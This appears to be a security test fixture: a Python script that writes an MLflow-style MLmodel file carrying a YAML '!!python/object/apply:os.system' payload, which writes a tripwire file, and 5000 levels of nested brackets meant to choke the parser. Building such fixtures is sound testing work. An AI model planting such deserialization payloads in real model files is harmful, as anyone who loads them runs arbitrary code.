"""Write an MLmodel with YAML tags that build Python objects, nested without end.

Lab: model
Verdict: student-error
Message: cannot be loaded
Naive: not-tried
"""

import os

os.makedirs("model")
with open("model/MLmodel", "w") as file:
    file.write(
        "flavors:\n  python_function: !!python/object/apply:os.system\n"
        "    - echo owned > @ROOT@/drop/tripwire.txt\n"
        "more: " + "[" * 5000 + "]" * 5000 + "\n"
    )
